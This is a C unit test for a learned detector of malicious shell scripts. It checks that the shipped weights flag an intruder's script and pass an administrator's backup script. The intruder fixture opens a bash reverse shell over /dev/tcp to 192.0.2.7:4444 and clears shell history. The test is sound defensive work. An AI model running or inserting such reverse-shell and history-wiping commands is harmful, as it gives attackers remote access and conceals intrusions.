/* The weights that ship, in models/: what they raise and what not. */
#include "check.h"

#include <stdio.h>

#include "base/text.h"
#include "detect/learned/judged.h"
#include "model/weights.h"

static size_t raised_of(const char *text)
{
    struct text AUTO(text_done) weights = text_of_limit(WEIGHTS_SIZE_MAX);
    FILE *file = fopen("models/sieve-shell.bin", "rb");
    assert_non_null(file);
    for (int byte = fgetc(file); byte != EOF; byte = fgetc(file)) {
        text_add_byte(&weights, (char)byte);
    }
    assert_int_equal(fclose(file), 0);
    return learned_of(text_bytes(&weights), text, "a.sh");
}

/* What somebody who broke in types, and what somebody who keeps the machine does with the same
 * programs. */
static void tells_an_intruder_from_a_keeper(void **state)
{
    (void)state;
    assert_int_equal(raised_of("#!/bin/sh\n"
                               "RHOST=192.0.2.7\nRPORT=4444\n"
                               "bash -c 'exec bash -i &>/dev/tcp/192.0.2.7/4444 <&1'\n"
                               "rm -rf ~/.bash_history\nhistory -c\n"),
                     1);
    assert_int_equal(
        raised_of("#!/bin/sh\nset -e\n"
                  "HOST=192.0.2.7\nPORT=5432\n"
                  "bash -c 'exec pg_dump -h \"$HOST\" -p \"$PORT\" shop' > dump.sql\n"
                  "rm -rf ~/.cache/backup\ngzip dump.sql\n"),
        0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(tells_an_intruder_from_a_keeper),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
